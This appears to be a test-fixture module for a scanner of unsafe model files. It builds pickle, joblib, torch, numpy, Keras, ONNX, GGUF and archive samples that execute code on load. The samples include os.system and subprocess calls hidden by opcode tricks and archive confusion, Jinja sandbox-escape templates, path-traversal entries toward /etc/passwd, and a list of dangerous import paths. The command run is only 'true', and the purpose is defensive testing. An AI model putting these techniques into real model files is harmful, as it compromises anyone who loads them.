"""Files that run code when they are opened, one for each trick: what a scan must never miss.

None of them does harm: the commands that they would run are `true`, and no test opens them.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import joblib
import numpy as np
from tests.scan_benign import tar_of


class Runs:
    """Calls something when it is unpickled."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> tuple[object, ...]:
        return self.call


class Name:
    """Stands for something by name that need not be importable here."""

    def __init__(self, module: str, name: str) -> None:
        self.module, self.name = module, name


def text(word: str) -> bytes:
    raw = word.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def reduced(module: str, name: str, argument: bytes = b"\x8c\x04true\x85") -> bytes:
    """A pickle of protocol 4 that calls a name with one argument."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93" + argument + b"R."


def command() -> Runs:
    import os

    return Runs(os.system, "true")


SYSTEM = b"cos\nsystem\n"
CALL = b"(S'true'\ntR."
BENIGN = pickle.dumps({"weights": [1.0, 2.0], "name": "model"}, protocol=4)


def opcodes() -> Iterator[tuple[str, bytes]]:
    """The same attack spelt in every way the unpickler understands."""
    for protocol in range(6):
        yield f"protocol-{protocol}.pkl", pickle.dumps({"a": [1, command()]}, protocol=protocol)
    yield "global.pkl", SYSTEM + CALL
    yield "inst.pkl", b"(S'true'\nios\nsystem\n."
    yield "obj.pkl", b"(" + SYSTEM + b"S'true'\no."
    yield "newobj.pkl", b"\x80\x02csubprocess\nPopen\n(S'true'\nt\x81."
    yield "newobj-ex.pkl", b"\x80\x04csubprocess\nPopen\n(S'true'\nt}\x92."
    yield "copyreg-newobj.pkl", b"ccopyreg\n__newobj__\n(csubprocess\nPopen\nS'true'\ntR."
    yield "reconstructor.pkl", b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\nc__builtin__\nobject\nNtR."
    yield "stack-global.pkl", reduced("os", "system")
    yield "memoised.pkl", b"\x80\x04" + text("system") + b"\x94" + text("os") + b"\x94h\x01h\x00\x93\x8c\x04true\x85R."
    yield "put-get.pkl", b"S'system'\np7\n0S'os'\np9\n0g9\ng7\n\x93(S'true'\ntR."
    yield "long-memo.pkl", b"\x80\x04" + text("os") + b"r\xff\xff\x00\x00" + text("system") + b"\x93\x8c\x04true\x85R."
    yield "dup-pop.pkl", b"\x80\x04" + text("os") + b"N0" + text("system") + b"20\x93\x8c\x04true\x85R."
    yield "marks.pkl", b"\x80\x04((1" + text("os") + b"(K\x011" + text("system") + b"\x93\x8c\x04true\x85R."
    yield "escaped-unicode.pkl", b"V\\u006f\\u0073\nVsystem\n\x93(S'true'\ntR."
    yield "escaped-string.pkl", b"S'\\x6f\\x73'\nS'\\163ystem'\n\x93(S'true'\ntR."
    yield "binstring.pkl", b"T\x02\x00\x00\x00osU\x06system\x93(S'true'\ntR."
    yield "wide-text.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + b"\x93\x8c\x04true\x85R."
    yield (
        "put-together.pkl",
        (b"\x80\x04cbuiltins\nstr\n" + text("os") + b"\x85R" + text("system") + b"\x93\x8c\x04true\x85R."),
    )
    yield "unknown-memo.pkl", b"\x80\x04h\x63" + text("system") + b"\x93\x8c\x04true\x85R."
    yield "dotted.pkl", reduced("sklearn.utils", "os.system")
    yield "dotted-module.pkl", reduced("numpy.f2py.crackfortran", "os.system")
    yield "attribute-module.pkl", b"csklearn\nos\n."
    yield "python2-eval.pkl", b"c__builtin__\neval\n" + CALL
    yield "python2-commands.pkl", b"ccommands\ngetoutput\n" + CALL
    yield "hexadecimal.pkl", b"I0x10\n0" + SYSTEM + CALL
    yield "no-stop.pkl", SYSTEM + CALL[:-1]
    yield "broken-tail.pkl", SYSTEM + CALL[:-1] + b"\xff\xff\xff"
    yield "cut-off.pkl", pickle.dumps([command(), "x" * 1000], protocol=4)[:-500]
    yield "underflow.pkl", b"00R" + SYSTEM + CALL
    yield from hidden()


def hidden() -> Iterator[tuple[str, bytes]]:
    """The attack behind, between and inside other things."""
    yield "behind-junk.pkl", b"\x00\x01JUNK" * 50 + pickle.dumps(command(), protocol=4)
    yield "behind-text.pkl", b"# a comment\n" + SYSTEM + CALL
    yield "second.pkl", BENIGN + pickle.dumps(command(), protocol=4)
    yield "third.pkl", BENIGN + BENIGN + SYSTEM + CALL
    yield "behind-junk-behind.pkl", BENIGN + b"\0" * 5000 + pickle.dumps(command(), protocol=2)
    yield "in-bytes.pkl", pickle.dumps({"blob": pickle.dumps(command())})
    yield "in-long-bytes.pkl", pickle.dumps({"blob": pickle.dumps([command(), b"x" * 10_000])})
    yield "in-old-text.pkl", b"\x80\x02U" + bytes([len(SYSTEM + CALL)]) + SYSTEM + CALL + b"."
    yield "in-old-bytes.pkl", pickle.dumps({"blob": pickle.dumps(command(), protocol=2)}, protocol=2)
    yield "in-bytearray.pkl", pickle.dumps(bytearray(pickle.dumps(command())), protocol=5)
    yield "zip-in-bytes.pkl", pickle.dumps({"npz": npz_of(command())})
    tar = tar_of({"storages": BENIGN, "tensors": BENIGN, "pickle": SYSTEM + CALL})
    loads = b"ctorch.storage\n_load_from_bytes\n"
    yield "torch-tar-in-bytes.pkl", b"\x80\x03" + loads + b"B" + struct.pack("<I", len(tar)) + tar + b"\x85R."
    turned = codecs.encode((SYSTEM + CALL).decode(), "rot13").encode()
    hidden = b"c_codecs\nencode\n(X" + struct.pack("<I", len(turned)) + turned + b"S'rot13'\ntR"
    yield "turned.pkl", b"\x80\x02" + loads + b"c_codecs\nencode\n(" + hidden + b"S'latin1'\ntR\x85R."
    yield "extension-1.pkl", b"\x80\x02\x82\x05(S'true'\ntR."
    yield "extension-4.pkl", b"\x80\x02\x84\x05\x00\x00\x00(S'true'\ntR."
    yield "persistent.pkl", b"\x80\x02X\x02\x00\x00\x00idQ(S'true'\ntR."
    yield "indirect.pkl", b"\x80\x02cmymodule\nfactory\n)R(S'true'\ntR."
    yield "patched.pkl", b"\x80\x02csklearn.svm._classes\nSVC\n}X\x07\x00\x00\x00predictcos\nsystem\nsb."
    yield "patched-plainly.pkl", b"\x80\x02csklearn.svm._classes\nSVC\n}X\x07\x00\x00\x00predictK\x01sb."
    yield "not-called.pkl", b"\x80\x02}X\x04\x00\x00\x00hook" + SYSTEM + b"s."
    yield "framed.pkl", framed()
    yield "as-array.joblib", as_array()
    yield "as-array-padding.joblib", as_array(padding=True)
    yield "numbers.txt", SYSTEM + CALL
    yield "model.bin", pickle.dumps(command(), protocol=4)
    yield "without-ending", pickle.dumps(command(), protocol=2)


PATHS = """
posix.system nt.system os.popen os.execv subprocess.check_output builtins.eval builtins.exec builtins.compile
builtins.__import__ builtins.getattr builtins.open io.open _io.FileIO runpy.run_path runpy._run_code pip.main
pip._internal.main importlib.import_module pty.spawn socket.create_connection shutil.rmtree webbrowser.open
ctypes.CDLL torch.hub.load torch.load numpy.load joblib.load numpy.testing._private.utils.runstring
operator.attrgetter operator.methodcaller functools.partial timeit.timeit code.InteractiveInterpreter.runcode
pdb.run bdb.Bdb.run cProfile.runctx profile.Profile.run asyncio.unix_events._UnixSubprocessTransport._start
urllib.request.urlopen http.client.HTTPConnection tempfile.mktemp sys.modules.get types.CodeType
types.FunctionType marshal.loads pickle.loads _pickle.loads dill.loads cloudpickle.loads
idlelib.autocomplete.AutoComplete.get_entity lib2to3.pgen2.grammar.Grammar.loads doctest.debug_script
ensurepip._run_pip trace.Trace.run torch.utils.bottleneck.__main__.run_cprofile
torch._inductor.codecache.compile_file torch.utils.collect_env.run torch.jit.unsupported_tensor_ops.exec
numpy.f2py.crackfortran.getlincoef numpy._core._ufunc_reconstruct multiprocessing.util.spawnv_passfds
distutils.file_util.write_file uuid._get_command_stdout logging.config.dictConfig
sklearn.utils._testing.check_docstring_parameters linecache.getlines pandas.read_pickle yaml.unsafe_load
aiohttp.web.run_app requests.get smtplib.SMTP sqlite3.connect threading.Thread
"""


def names() -> Iterator[tuple[str, bytes]]:
    """One call each of what runs, reads or loads; several were missed by other scanners (CVE-2025-1716 and later)."""
    for path in PATHS.split():
        module, _, name = path.rpartition(".")
        yield f"name-{path}.pkl", reduced(module, name)


def framed() -> bytes:
    """An array in the middle of a frame: joblib reads the array behind the frame, then the rest of the frame."""
    head = b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + _array_state() + b"b"
    rest = b"0" + SYSTEM + CALL
    body = head[2:] + rest
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body + b"\0" * 8


def as_array(*, padding: bool = False) -> bytes:
    """Opcodes in place of an array's bytes: harmless to joblib, run by plain pickle."""
    rest = b"0" + SYSTEM + CALL
    if padding:  # the first byte, an opcode, is also how many bytes of padding joblib skips
        rest = b"0" + SYSTEM + CALL
    state = _array_state(len(rest), padded=padding)
    return b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + state + b"b" + rest + b"\0" * 200


def _array_state(size: int = 8, *, padded: bool = False) -> bytes:
    dtype = b"cnumpy\ndtype\n(S'u1'\nI0\nI1\ntR"
    shape = b"(K" + bytes([size]) + b"t"
    fields = b"S'shape'\n" + shape + b"S'order'\nS'C'\nS'dtype'\n" + dtype
    if padded:
        fields += b"S'numpy_array_alignment_bytes'\nK\x10"
    return b"}(" + fields + b"u"


def npz_of(value: object) -> bytes:
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([value], dtype=object))
    return buffer.getvalue()


def joblib_of(value: object, *, compress: tuple[str, int] | int = 0, protocol: int | None = None) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(value, buffer, compress=compress, protocol=protocol)
    return buffer.getvalue()


def torch_of(value: object, *, legacy: bool = False) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(value, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def archive(members: dict[str, bytes], *, method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        for name, body in members.items():
            target.writestr(name, body)
    return buffer.getvalue()


def containers() -> Iterator[tuple[str, bytes]]:
    """The attack in everything that can hold a pickle."""
    import torch

    payload = pickle.dumps(command(), protocol=4)
    weights = {"w": torch.zeros(64), "e": command()}
    arrays = {"a": np.arange(100.0), "o": np.array([1, "x"], dtype=object), "e": command(), "z": np.zeros((3, 3))}
    yield "torch.pt", torch_of(weights)
    yield "torch-legacy.pt", torch_of(weights, legacy=True)
    yield "torch-deflated.pt", archive({"m/data.pkl": payload, "m/version": b"3"}, method=zipfile.ZIP_DEFLATED)
    yield "torch-odd-member.pt", archive({"m/data.dat": payload, "m/version": b"3"})
    yield "torch-in-storage-name.pt", archive({"m/data.pkl": BENIGN, "m/data/0": payload})
    yield "torch.tar", tar_of({"storages": BENIGN, "tensors": BENIGN, "pickle": payload})
    yield "model.nemo", gzip.compress(tar_of({"weights.ckpt": torch_of(weights), "config.yaml": b"a: 1"}))
    yield "old.tar.xz", lzma.compress(tar_of({"model.pkl": payload}))
    yield "objects.npy", npy_of(command())
    yield "objects.npz", npz_of(command())
    yield "headless.npy", payload
    yield "odd-header.npy", odd_header(payload)
    yield "inline.joblib", joblib_of(arrays)
    yield "inline-2.joblib", joblib_of(arrays, protocol=2)
    yield "in-object-array.joblib", joblib_of({"o": np.array([1, command()], dtype=object), "b": np.zeros(3)})
    for compress in ("zlib", "gzip", "bz2", "lzma", "xz"):
        yield f"inline.joblib.{compress}", joblib_of(arrays, compress=(compress, 3))
    yield "old.joblib", b"ZF0x" + f"{len(payload):<17x}".encode() + zlib.compress(payload)
    yield "twice.pkl.gz.xz", lzma.compress(gzip.compress(payload))
    yield "two-members.pkl.gz", gzip.compress(b"") + gzip.compress(payload)
    yield "damaged.pkl.gz", gzip.compress(payload + b"x" * 100_000)[:-20]
    yield "model.pkl.bz2", bz2.compress(payload)
    yield "archive.pt.gz", gzip.compress(torch_of(weights))
    yield "zip-in-zip.zip", archive({"inner.zip": archive({"model.pkl": payload})})
    yield "sheet.xlsx", archive({"xl/x.bin": payload})
    yield "polyglot.pkl", payload + archive({"readme.txt": b"nothing"})
    yield "polyglot.zip", b"junk" + archive({"model.pkl": payload})
    yield from confused(payload)


def npy_of(value: object) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array([value], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def odd_header(payload: bytes) -> bytes:
    """A header that says twice of what type the array is; the second counts."""
    header = b"{'descr': '<f8', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def confused(payload: bytes) -> Iterator[tuple[str, bytes]]:
    """Archives that readers disagree about (CVE-2025-1944, -1945, -10156)."""
    whole = bytearray(archive({"m/data.pkl": payload, "m/version": b"3\n"}))
    directory = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"PK\x01\x02"))

    def changed(*edits: tuple[int, bytes]) -> bytes:
        copy = bytearray(whole)
        for place, value in edits:
            copy[place : place + len(value)] = value
        return bytes(copy)

    yield "bad-checksum.pt", changed((14, b"\1\2\3\4"), (directory + 16, b"\4\3\2\1"))
    yield "encrypted-flag.pt", changed((6, b"\x01\x00"), (directory + 8, b"\x01\x00"))
    yield "encrypted-in-directory.pt", changed((directory + 8, b"\x01\x00"))
    yield "other-name.pt", changed((30, b"m/meta.txt"))
    yield "other-name-listed.pt", changed((directory + 46, b"m/meta.txt"))
    yield "other-method.pt", changed((directory + 10, b"\x08\x00"))
    yield "unknown-method.pt", changed((directory + 10, b"\x63\x00"))
    yield "no-directory.pt", bytes(whole[:directory])
    yield "damaged-end.pt", bytes(whole[:-22])
    yield "duplicate.pt", duplicate(payload)
    yield "unlisted.pt", unlisted(payload)
    yield "prefixed.pt", b"#!/bin/sh\n" + bytes(whole)


def duplicate(payload: bytes) -> bytes:
    import warnings

    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as target:
        warnings.simplefilter("ignore")
        target.writestr("m/data.pkl", payload)
        target.writestr("m/data.pkl", BENIGN)
    return buffer.getvalue()


def unlisted(payload: bytes) -> bytes:
    """A member in front that the directory does not list: readers from the front see it."""
    hidden = archive({"m/data.pkl": payload})
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    shown = archive({"m/data.pkl": BENIGN})
    place = shown.index(b"PK\x01\x02")
    end = bytearray(shown[place:])
    struct.pack_into("<I", end, 42, len(hidden))
    struct.pack_into("<I", end, len(end) - 6, len(hidden) + place)
    return hidden + shown[:place] + bytes(end)


def others() -> Iterator[tuple[str, bytes]]:
    """Code that is no pickle: Keras, templates, graphs, configurations."""
    code = base64.b64encode(marshal.dumps(compile("0", "<lambda>", "eval"))).decode()
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": [code, None, None]}}
    layer3 = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"code": code}}},
    }
    model = {"class_name": "Sequential", "config": {"layers": [layer]}}
    yield "lambda.keras", archive({"config.json": json.dumps({"class_name": "S", "config": [layer3]}).encode()})
    yield "lambda-config.json", json.dumps(model).encode()
    yield "lambda.h5", h5_of(json.dumps(model))
    yield "lambda-escaped.h5", h5_of(json.dumps(model).replace("Lambda", "L\\u0061mbda"))
    yield "user-block.h5", b"\0" * 512 + h5_of(json.dumps(model))
    module = {"module": "subprocess", "class_name": "run", "config": {}, "inbound_nodes": [{"args": ["true"]}]}
    yield "module.keras", archive({"config.json": json.dumps({"class_name": "Model", "config": [module]}).encode()})
    fetch = {"module": "keras.utils", "class_name": "function", "config": "get_file"}
    yield "get-file.keras", archive({"config.json": json.dumps(fetch).encode()})
    for number, template in enumerate(TEMPLATES):
        yield f"template-{number}.jinja", template.encode()
    yield "tokenizer_config.json", json.dumps({"chat_template": TEMPLATES[0]}).encode()
    yield "templates.json", json.dumps({"chat_template": [{"name": "x", "template": TEMPLATES[1]}]}).encode()
    yield "template.gguf", gguf_of(TEMPLATES[0])
    yield "escape.onnx", onnx_of(location="../../etc/passwd")
    yield "absolute.onnx", onnx_of(location="/etc/passwd")
    yield "python.onnx", onnx_of(domain="ai.onnx.contrib", operator="PyOp")
    yield "saved_model.pb", b"\x08\x01\x12\x20\x0a\x04node\x12\x06PyFunc" + b"\0" * 40
    node = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {}}
    yield "model.skops", archive({"schema.json": json.dumps(node).encode()})
    yield "config-remote/config.json", json.dumps({"auto_map": {"AutoModel": "evil/repo--modeling.Model"}}).encode()
    yield "escape.tar", tar_of({"../../bin/sh": b"x"})


TEMPLATES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ lipsum.__globals__['os'].popen('true').read() }}",
    "{{ cycler.__init__.__globals__.os.system('true') }}",
    "{{ messages|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ messages['__cl' ~ 'ass__'] }}",
    "{{ self._TemplateReference__context }}",
    "{{ namespace['__init__']['__globals__'] }}",
    "{{ messages.__class__",
)


def h5_of(config: str) -> bytes:
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        file.attrs["model_config"] = config
    return buffer.getvalue()


def gguf_of(template: str) -> bytes:
    def word(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    entries = word("general.architecture") + struct.pack("<I", 8) + word("llama")
    entries += word("tokens") + struct.pack("<IIQ", 9, 8, 2) + word("a") + word("b")
    entries += word("tokenizer.chat_template") + struct.pack("<I", 8) + word(template)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 3) + entries


def onnx_of(*, location: str = "", domain: str = "", operator: str = "Relu") -> bytes:
    from onnx import TensorProto, helper

    value = helper.make_tensor_value_info
    tensor = TensorProto(name="w", data_type=1, dims=[1])
    if location:
        tensor.data_location = TensorProto.EXTERNAL
        tensor.external_data.add(key="location", value=location)
    else:
        tensor.raw_data = b"\0\0\0\0"
    node = helper.make_node(operator, ["x"], ["y"], domain=domain)
    ends = [value("x", 1, [1])], [value("y", 1, [1])]
    model: bytes = helper.make_model(helper.make_graph([node], "g", *ends, [tensor])).SerializeToString()
    return model


FAMILIES: tuple[Callable[[], Iterator[tuple[str, bytes]]], ...] = (opcodes, names, containers, others)


def every() -> dict[str, bytes]:
    """All of them by file name."""
    return {f"{family.__name__}/{name}": body for family in FAMILIES for name, body in family()}
